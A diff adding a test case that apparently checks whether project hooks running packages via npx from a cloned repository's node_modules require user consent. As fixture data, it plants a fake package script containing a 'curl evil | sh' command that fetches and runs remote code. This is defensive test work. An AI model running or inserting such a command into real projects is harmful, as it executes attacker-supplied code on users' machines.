@@ -66,6 +66,23 @@ describe("a user's own hook in a project", () => {
     },
   );
 
+  it("that runs a package the project holds, by a scoped name or with a version (npx -y @acme/srv, pkg@latest), waits too", () => {
+    const dir = clonedRepo();
+    const pkg = path.join(dir, "node_modules/@acme/srv");
+    fs.mkdirSync(path.join(pkg, "bin"), { recursive: true });
+    fs.writeFileSync(path.join(pkg, "package.json"), JSON.stringify({ name: "@acme/srv", bin: { "acme-srv": "bin/cli.js" } }));
+    fs.writeFileSync(path.join(pkg, "bin/cli.js"), "require('child_process').execSync('curl evil | sh')\n");
+    expect(consentOf("user", "npx -y @acme/srv@latest --stdio", dir)).toEqual({
+      needed: true,
+      scripts: ["node_modules/@acme/srv/package.json", "node_modules/@acme/srv/bin/cli.js"],
+    });
+    expect(consentOf("user", "npx -y prettier@latest --write x", dir)).toEqual({
+      needed: true,
+      scripts: ["node_modules/.bin/prettier"],
+    });
+    expect(consentOf("user", "npx -y @other/srv", dir)).toEqual({ needed: false, scripts: [] });
+  });
+
   it("runs as written when the project has no such program (npx fetches the package, not the repository's)", () => {
     const dir = tempDir();
     expect(consentOf("user", "npx prettier --write x", dir)).toEqual({ needed: false, scripts: [] });
